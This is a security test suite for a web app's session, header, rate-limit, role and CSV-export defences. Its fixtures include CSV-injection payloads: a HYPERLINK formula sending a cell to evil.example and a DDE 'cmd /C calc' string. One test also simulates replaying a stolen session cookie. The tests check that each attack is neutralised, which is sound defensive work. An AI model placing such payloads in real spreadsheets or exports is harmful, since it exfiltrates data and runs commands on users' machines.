"""The web app's entry points of issue 50, row 7, each attack refused beside the use it must keep: a
session cookie copied before logout, a worker name from a caller without a worker token, framing
and sniffing (security headers), anonymous theory-lab requests without bound, CSV cells a
spreadsheet would run, and reads by every role. The app in-process over a real DuckDB file."""

from __future__ import annotations

import csv
import io
import re
import threading
import time

import pytest
from fastapi.testclient import TestClient
from forgetmap.runtime.broker import BrokerSettings
from forgetmap.runtime.config import WebSettings
from forgetmap.services.tokens import SESSIONS_PER_TOKEN, Principal, Role, needs_role_message
from forgetmap.web import create_app, theory

from tests.support.tables import BASE, POST, rows_for, write_csv

ROLES = ("read", "submit", "worker", "admin")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
JOB = {
    "models": [{"name": "m-base", "path": "org/base"}, {"name": "m-post", "path": "org/post"}],
    "benchmarks": ["piqa"],
    "seeds": [0],
    "config": {"engine": "vllm"},
}


@pytest.fixture
def world(cli, tmp_path):
    """A pair whose post model and prompts are formulas, a token of each role, and the settings
    of an app over that file."""
    base = rows_for("base-7b", BASE)
    post = rows_for(FORMULA, POST)
    for row in post:
        row["response"] = "-1+cmd|' /C calc'!A0" if row["sample_id"] == "q0" else "-0.5"
    for row in base + post:
        if row["sample_id"] == "q1":
            row["prompt"] = FORMULA
    write_csv(tmp_path / "base.csv", base)
    write_csv(tmp_path / "post.csv", post)
    cli("import", "table", tmp_path / "base.csv")
    cli("import", "table", tmp_path / "post.csv")
    cli("pair", "add", "base-7b", FORMULA, "--label", "@SUM(1+1)")
    tokens = {r: cli("token", "create", r, "--role", r).stdout.strip() for r in ROLES}
    settings = WebSettings(secret_key="k" * 40, reconcile_seconds=3600)
    broker = BrokerSettings(url=None, data_dir=tmp_path)  # the embedded queue: sends succeed
    return cli, tokens, settings, broker


def _client(world, **overrides) -> TestClient:
    cli, _, settings, broker = world
    if overrides:
        settings = WebSettings(**{**settings.__dict__, **overrides})
    return TestClient(create_app(cli.db, broker=broker, settings=settings))


def _bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def _csrf(html: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', html).group(1)


def _login(client: TestClient, token: str) -> None:
    csrf = _csrf(client.get("/login").text)
    r = client.post(
        "/login", data={"token": token, "csrf": csrf, "next": "/submit"}, follow_redirects=False
    )
    assert r.status_code == 303 and r.headers["location"] == "/submit", r.text


def _logout(client: TestClient, **form: str) -> None:
    csrf = _csrf(client.get("/").text)
    r = client.post("/logout", data={"csrf": csrf, **form}, follow_redirects=False)
    assert r.status_code == 303


def _logged_in(client: TestClient) -> bool:
    return client.get("/submit", follow_redirects=False).status_code == 200


# sessions ---------------------------------------------------------------------------------------


def test_a_cookie_copied_before_logout_logs_in_no_one(world):
    _, tokens, *_ = world
    with _client(world) as browser, _client(world) as thief:
        _login(browser, tokens["submit"])
        thief.cookies.set("forgetmap_session", browser.cookies.get("forgetmap_session"))
        assert _logged_in(thief)  # the copy works while the session lasts: it is the session
        _logout(browser)
        assert not _logged_in(browser)
        assert not _logged_in(thief)  # the attack: the copy replayed after logout
        assert "log in</a>" in thief.get("/").text
        _login(browser, tokens["submit"])  # the same token logs in again
        assert _logged_in(browser)


def test_logout_ends_one_session_and_everywhere_ends_all(world):
    _, tokens, *_ = world
    with _client(world) as laptop, _client(world) as phone:
        _login(laptop, tokens["submit"])
        _login(phone, tokens["submit"])
        _logout(laptop)
        assert not _logged_in(laptop) and _logged_in(phone)
        _login(laptop, tokens["submit"])
        _logout(phone, everywhere="1")
        assert not _logged_in(phone) and not _logged_in(laptop)


def test_a_new_login_ends_the_browsers_old_session(world):
    _, tokens, *_ = world
    with _client(world) as browser, _client(world) as thief:
        _login(browser, tokens["read"])
        thief.cookies.set("forgetmap_session", browser.cookies.get("forgetmap_session"))
        _login(browser, tokens["submit"])
        assert _logged_in(browser)
        assert thief.get("/submit", follow_redirects=False).status_code == 303


def test_revoking_a_token_still_ends_its_sessions(world):
    cli, tokens, *_ = world
    with _client(world) as browser:
        _login(browser, tokens["submit"])
        assert _logged_in(browser)
        cli("token", "revoke", "submit")
        assert not _logged_in(browser)


def test_sessions_expire_in_the_app_and_one_token_keeps_a_bounded_number(world):
    _, tokens, *_ = world
    with _client(world, session_days=2 / 86400) as browser, _client(world) as thief:
        _login(browser, tokens["submit"])
        thief.cookies.set("forgetmap_session", browser.cookies.get("forgetmap_session"))
        assert _logged_in(thief)
        time.sleep(2.2)  # a copy of the cookie keeps no expiry: the app's session has one
        assert not _logged_in(thief)
    clients = [_client(world) for _ in range(SESSIONS_PER_TOKEN + 1)]
    for c in clients:
        _login(c, tokens["read"])
    assert not _logged_in_read(clients[0])  # the oldest was ended by the newest
    assert all(_logged_in_read(c) for c in clients[1:])
    for c in clients:
        c.close()


def _logged_in_read(client: TestClient) -> bool:
    return "log out</button>" in client.get("/").text


# the worker's name -------------------------------------------------------------------------------


def test_a_worker_name_is_taken_only_with_a_worker_token(world):
    _, tokens, *_ = world
    name = "PAY-US-AT-evil.example"
    with _client(world) as client:
        job = client.post("/api/jobs", json=JOB, headers=_bearer(tokens["submit"])).json()
        shard = client.get(f"/api/jobs/{job['id']}").json()["shards"][0]["id"]
        # the attack: no token (or a made-up one) and a name for the job page
        for headers in ({}, _bearer("fm_" + "x" * 43)):
            r = client.post(
                f"/api/shards/{shard}/progress",
                json={"done": 1},
                headers={**headers, "X-Forgetmap-Worker": name},
            )
            assert r.status_code == 401
            assert name not in client.get(f"/jobs/{job['id']}").text
            reason = client.get(f"/api/jobs/{job['id']}").json()["waiting_reason"]
            assert name not in reason and reason.startswith("waiting: worker (unnamed) rejected")
        # a valid token of another role: named by its token, not by its header
        headers = {**_bearer(tokens["read"]), "X-Forgetmap-Worker": name}
        r = client.post(f"/api/shards/{shard}/progress", json={"done": 1}, headers=headers)
        assert r.status_code == 403
        reason = client.get(f"/api/jobs/{job['id']}").json()["waiting_reason"]
        assert reason.startswith(
            "waiting: worker token 'read' rejected: this needs a token with role worker or "
            "admin; token 'read' has role read ("
        )
        assert name not in client.get(f"/jobs/{job['id']}").text
        # the use: a worker's own token, its name taken
        for role in ("worker", "admin"):
            headers = {**_bearer(tokens[role]), "X-Forgetmap-Worker": "gpu-1"}
            me = client.get("/api/workers/me", headers=headers)
            assert me.status_code == 200 and me.json()["worker"] == "gpu-1"


# security headers --------------------------------------------------------------------------------


def test_every_answer_carries_the_security_headers(world):
    with _client(world) as client:
        paths = ("/", "/theory", "/api/map", "/static/map.js", "/nowhere", "/login")
        answers = [client.get(p, follow_redirects=False) for p in paths]
        answers.append(client.post("/api/pairs", json={}))  # a refusal: 401
        for r in answers:
            policy = r.headers["content-security-policy"]
            assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy, r.url
            assert "unsafe-eval" not in policy
            assert r.headers["x-content-type-options"] == "nosniff"
            assert r.headers["x-frame-options"] == "DENY"
            assert r.headers["referrer-policy"] == "same-origin"
        # the pages run no inline script: only /static scripts and JSON data blocks
        for r in answers[:2]:
            for tag in re.findall(r"<script\b[^>]*>", r.text):
                assert 'src="/static/' in tag or 'type="application/json"' in tag, tag
            assert not re.search(r"\son[a-z]+=", r.text)
        # Swagger UI starts with one inline script: /docs alone may run it
        docs = client.get("/docs")
        assert (
            docs.status_code == 200
            and "script-src 'self' 'unsafe-inline'" in (docs.headers["content-security-policy"])
        )
        assert docs.headers["x-frame-options"] == "DENY"


# the theory lab's bound --------------------------------------------------------------------------


def _uncached(n: int) -> list[str]:
    """``n`` parameter sets besides the defaults (each app computes them afresh: its lab keeps
    what it computed, ``app.state.theory_lab``)."""
    return [f"/api/theory?steps={10 + i}&batch_size=1" for i in range(n)]


def _hold_the_lab(client: TestClient, release: threading.Event):
    """Keep the app's lab's one computation busy until ``release``: what a slow request does."""
    computing = client.app.state.theory_lab._computing
    computing.acquire()
    threading.Thread(target=lambda: (release.wait(30), computing.release())).start()


def test_anonymous_lab_requests_beyond_the_bound_are_503_at_once(world):
    _, tokens, *_ = world
    anonymous = theory.ANONYMOUS_LAB_REQUESTS
    urls = _uncached(anonymous + 2)
    release = threading.Event()
    with _client(world) as client:
        cached = client.get("/api/theory")  # the defaults: computed once, then cached
        assert cached.status_code == 200
        _hold_the_lab(client, release)
        waiting = [threading.Thread(target=client.get, args=(u,)) for u in urls[:anonymous]]
        for t in waiting:
            t.start()
        try:
            _wait_until(lambda: theory._anonymous_slots._value == 0)
            # the attack: one more anonymous request, answered at once instead of queued
            r = client.get(urls[anonymous])
            assert r.status_code == 503 and r.headers["retry-after"] == "5"
            assert "2 requests without a login" in r.json()["detail"]
            page = client.get(urls[anonymous].replace("/api/theory", "/theory"))
            assert page.status_code == 503
            # the use beside it: a cached parameter set, and a logged-in caller, still answer
            assert client.get("/api/theory").json() == cached.json()
            signed_in = {}
            t = threading.Thread(
                target=lambda: signed_in.setdefault(
                    "r", client.get(urls[anonymous + 1], headers=_bearer(tokens["read"]))
                )
            )
            t.start()
            _wait_until(
                lambda: theory._identified_slots._value == theory.IDENTIFIED_LAB_REQUESTS - 1
            )
        finally:
            release.set()
        for thread in [*waiting, t]:
            thread.join(60)
        assert signed_in["r"].status_code == 200
        assert client.get(urls[anonymous]).status_code == 200  # free again once they finished
    assert theory._anonymous_slots._value == anonymous


def _wait_until(condition, seconds: float = 10) -> None:
    done = threading.Event()
    for _ in range(int(seconds / 0.02)):
        if condition():
            return
        done.wait(0.02)
    raise AssertionError("the condition did not hold in time")


# CSV exports -------------------------------------------------------------------------------------


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_exports_quote_cells_a_spreadsheet_would_run(world):
    cli, *_ = world
    with _client(world) as client:
        rows = _cells(client.get("/api/pairs/1/samples.csv").text)
        assert rows, "the pair has paired rows"
        cells = {v for r in rows for v in r.values()}
        assert FORMULA not in cells and "'" + FORMULA in cells  # the attack, made inert
        responses = {v for r in rows for k, v in r.items() if "response" in k}
        assert "'-1+cmd|' /C calc'!A0" in responses  # a formula that starts like a number
        assert "-0.5" in responses  # a number stays a number
        numbers = [v for r in rows for k, v in r.items() if k.endswith("correct")]
        assert numbers and all(v in ("0", "1", "true", "false") for v in numbers)
        # Parquet is data, not a spreadsheet: kept as stored
        parquet = client.get("/api/pairs/1/samples.parquet")
        assert parquet.status_code == 200 and FORMULA.encode() in parquet.content
        benchmarks = client.get("/api/pairs/1/benchmarks.csv")
        assert benchmarks.status_code == 200 and '"=' not in benchmarks.text
    # the CLI's --format csv follows the same rule
    rows = _cells(cli("map", "--format", "csv").stdout)
    assert rows and {r["label"] for r in rows} == {"'@SUM(1+1)"}


# every role reads --------------------------------------------------------------------------------


def test_every_role_reads_a_private_forgetmap_and_no_token_does_not(world):
    _, tokens, *_ = world
    with _client(world, private=True) as client:
        assert client.get("/api/pairs").status_code == 401  # the attack: no token
        assert client.get("/api/pairs", headers=_bearer("fm_" + "y" * 43)).status_code == 401
        for role in ROLES:
            for path in ("/api/pairs", "/api/map", "/api/jobs", "/api/pairs/1/samples.csv"):
                r = client.get(path, headers=_bearer(tokens[role]))
                assert r.status_code == 200, (role, path, r.text)


def test_a_refusal_names_each_role_once(world):
    _, tokens, *_ = world
    with _client(world) as client:
        r = client.post(
            "/api/pairs", json={"base": "base-7b", "post": FORMULA}, headers=_bearer(tokens["read"])
        )
        assert r.status_code == 403
        assert r.json()["detail"] == (
            "this needs a token with role submit or admin; token 'read' has role read"
        )
    reader = Principal(1, "r", Role.read)
    assert needs_role_message(reader, Role.admin) == (
        "this needs a token with role admin; token 'r' has role read"
    )
